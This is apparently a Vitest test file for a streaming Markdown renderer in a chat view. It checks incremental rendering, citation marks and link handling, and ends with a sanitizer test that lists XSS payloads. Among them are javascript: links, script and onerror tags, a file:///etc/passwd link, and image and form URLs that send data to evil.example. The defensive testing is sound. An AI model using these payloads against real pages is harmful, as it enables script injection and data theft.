import { describe, expect, test } from "vitest";
import { MarkdownView } from "../../src/markdown.js";
import { cases } from "../markdown_cases.js";

function createView(): { root: HTMLElement; view: MarkdownView; drawn: { marks: number }; ended: Promise<void> } {
  const drawn = { marks: 0 };
  let end = (): void => undefined;
  const ended = new Promise<void>((resolve) => (end = resolve));
  const root = document.createElement("div");
  const view = new MarkdownView(root, {
    base: "https://docs.example/page",
    end: () => {
      end();
      return [];
    },
    tableLabel: "Table",
    cite: (index) => {
      if (index > 3) {
        return undefined;
      }
      drawn.marks++;
      const mark = document.createElement("a");
      mark.className = "mark";
      mark.textContent = String(index);
      return mark;
    },
    code: (text, language) => {
      const pre = document.createElement("pre");
      pre.title = language;
      pre.textContent = text;
      return pre;
    },
  });
  return { root, view, drawn, ended };
}

async function render(markdown: string, size = Infinity): Promise<HTMLElement> {
  const { root, view, ended } = createView();
  for (let end = size; end < markdown.length; end += size) {
    view.show(markdown.slice(0, end));
  }
  view.finish(markdown);
  await ended;
  return root;
}

const together = Object.values(cases).join("\n\n");

describe("an answer that arrives in pieces looks like one that came whole", () => {
  for (const [name, markdown] of Object.entries({ ...cases, "all of it": together, "with CRLF": together.replaceAll("\n", "\r\n") })) {
    test(name, async () => {
      const whole = (await render(markdown)).outerHTML;
      for (const size of markdown.length > 1000 ? [7, 64] : [1, 2, 3, 5]) {
        expect((await render(markdown, size)).outerHTML, `pieces of ${size}`).toBe(whole);
      }
    });
  }
});

test("blocks that are closed are not made anew", () => {
  const { root, view } = createView();
  view.show("First.\n\nSecond.\n\nThird");
  const [first] = root.children;
  view.show("First.\n\nSecond.\n\nThird.\n\n- and\n- more");
  expect(root.children[0]).toBe(first);
});

test("a further piece of a long answer touches nothing but the text that it belongs to", async () => {
  const { root, view, ended } = createView();
  const text = "A **paragraph** [1].\n\n".repeat(40) + "The last one";
  view.show(text);
  const seen = new MutationObserver(() => undefined);
  seen.observe(root, { childList: true, characterData: true, attributes: true, subtree: true });
  view.show(`${text} grows`);
  expect(seen.takeRecords().map(({ type, target }) => [type, target.textContent])).toEqual([["characterData", "The last one grows"]]);
  view.finish(`${text} grows`);
  await ended;
});

test("in a block that grows, what looks the same stays", () => {
  const { root, view } = createView();
  view.show("- one\n- two [1]\n- thr");
  const [first, second] = root.querySelectorAll("li");
  view.show("- one\n- two [1]\n- three\n- four");
  expect([...root.querySelectorAll("li")].slice(0, 2)).toEqual([first, second]);
  expect(root.querySelectorAll("li")[0]).toBe(first);
  expect(root.textContent).toBe("onetwo1threefour");
});

test("a block that grows is not read anew for each piece", () => {
  const { view, drawn } = createView();
  const text = "- item [1]\n".repeat(2_000);
  for (let end = 4; end < text.length; end += 4) {
    view.show(text.slice(0, end));
  }
  view.finish(text);
  // 65 times each item: 64 for what it grows by, and 1 for what it is. Without that it would be 2,750 times on average.
  expect(drawn.marks).toBeLessThan(65 * 2_000);
});

describe("a long answer", () => {
  test("that comes at once is shown in parts, so that the page stays usable", async () => {
    const { root, view, ended } = createView();
    const text = "A paragraph of some words.\n\n".repeat(1_000);
    view.finish(text);
    expect(root.children.length).toBe(Math.ceil(1_024 / 28));
    await ended;
    expect(root.children.length).toBe(1_000);
    expect(root.outerHTML).toBe((await render(text, 4_000)).outerHTML);
  });

  test("of one block that is longer than all use is shown in two", async () => {
    const { root, view, ended } = createView();
    const text = "- **a**\n".repeat(9_000);
    view.show(text.slice(0, 66_000));
    view.finish(text);
    await ended;
    const lists = [...root.children].map(({ children }) => children.length);
    expect(lists).toEqual([8_192, 808]);
    expect(root.textContent.replaceAll(/\s/g, "").length).toBe(9_000);
  });
});

test("half a mark is not shown", () => {
  const { root, view } = createView();
  view.show("So it is [1");
  expect(root.textContent).toBe("So it is");
  view.show("So it is [1].");
  expect(root.querySelector(".mark")?.textContent).toBe("1");
});

test("marks without a source, in code or in links are text", async () => {
  const root = await render("`items[1]` items[9] [see [1]](/x) \\[2] and [3]");
  expect([...root.querySelectorAll(".mark")].map((mark) => mark.textContent)).toEqual(["3"]);
  expect(root.textContent).toBe("items[1] items[9] see [1] [2] and3");
});

test("headings begin below the chat's own", async () => {
  expect([...(await render("# a\n## b\n#### c")).children].map(({ tagName }) => tagName)).toEqual(["H4", "H5", "H6"]);
});

test("links lead to the page they name, others' in a new tab", async () => {
  const [own, other] = (await render("[a](/b) [c](https://other.example/)")).querySelectorAll("a");
  expect([own!.href, own!.target]).toEqual(["https://docs.example/b", ""]);
  expect([other!.target, other!.rel]).toEqual(["_blank", "noopener noreferrer nofollow ugc"]);
});

describe("hostile Markdown does nothing", () => {
  const hostile = [
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) [z](file:///etc/passwd) [b](blob:x)",
    "[x](&#106;avascript:alert(1)) [y](javascript&colon;alert(1)) [z](\\javascript:alert(1))",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![x](https://evil.example/?q=secret) ![y][r]\n\n[r]: https://evil.example/r.png",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe> <object data=x></object> <embed src=x>',
    '<form action="https://evil.example"><input name=q><button>go</button></form>',
    '<a href="javascript:alert(1)" style="position:fixed;inset:0">x</a> <style>*{display:none}</style>',
    "<base href=https://evil.example> <meta http-equiv=refresh content=0> <link rel=stylesheet href=//evil.example>",
    "```js\" onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| `<script>` | <b onclick=x>y</b> |",
    '[x](https://a.b "t\\" onclick=\\"alert(1)")',
    "[1]: javascript:alert(1)\n\n[1] [1](javascript:alert(1)) [2][1]",
    "- [ ] <input onfocus=alert(1) autofocus>\n> <details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script>--> <![CDATA[<script>]]> <?php x ?>",
  ];
  const ALLOWED = /^(P|H[456]|UL|OL|LI|BLOCKQUOTE|PRE|CODE|STRONG|EM|DEL|A|SPAN|BR|HR|TABLE|THEAD|TBODY|TR|TH|TD|DIV|INPUT)$/;
  const ATTRIBUTES = /^(href|rel|target|class|start|role|tabindex|aria-label|type|disabled|checked|title)$/;

  for (const markdown of hostile) {
    test(JSON.stringify(markdown.slice(0, 60)), () => {
      const { root, view } = createView();
      const findings: string[] = [];
      const inspect = (): void => {
        for (const element of root.querySelectorAll("*")) {
          const bad = [...element.attributes].filter(({ name }) => !ATTRIBUTES.test(name)).map(({ name }) => name);
          const href = element.getAttribute("href") ?? "https:";
          if (!ALLOWED.test(element.tagName) || bad.length > 0 || !/^(https?|mailto):/.test(href)) {
            findings.push(element.outerHTML);
          }
          if (element instanceof HTMLInputElement && (element.type !== "checkbox" || !element.disabled)) {
            findings.push(element.outerHTML);
          }
        }
      };
      for (let end = 3; end < markdown.length; end += 3) {
        view.show(markdown.slice(0, end));
        inspect();
      }
      view.finish(markdown);
      inspect();
      expect(findings).toEqual([]);
    });
  }
});
